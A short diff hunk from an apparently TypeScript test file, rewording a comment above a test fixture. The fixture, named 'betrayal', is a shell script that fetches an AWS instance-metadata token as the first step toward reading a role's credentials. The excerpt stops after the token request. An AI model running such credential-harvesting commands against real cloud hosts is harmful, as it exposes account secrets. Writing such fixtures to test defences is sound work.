@@ -11,7 +11,7 @@ import type { RunSettings } from '../../../src/sweep/run';
 import { launched, requestFor, runOf, type World } from '../engine/world';
 import { eventually } from '../local/harness';
 
-/** Hands the credentials of its role over, as a script would that somebody else has written, and goes on running. */
+/** Hands the credentials of its role over, as a script would that someone else has written, and continues running. */
 const betrayal = `#!/bin/sh
 imds=\${AWS_EC2_METADATA_SERVICE_ENDPOINT:-http://169.254.169.254}/latest
 token=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 600' "$imds/api/token")
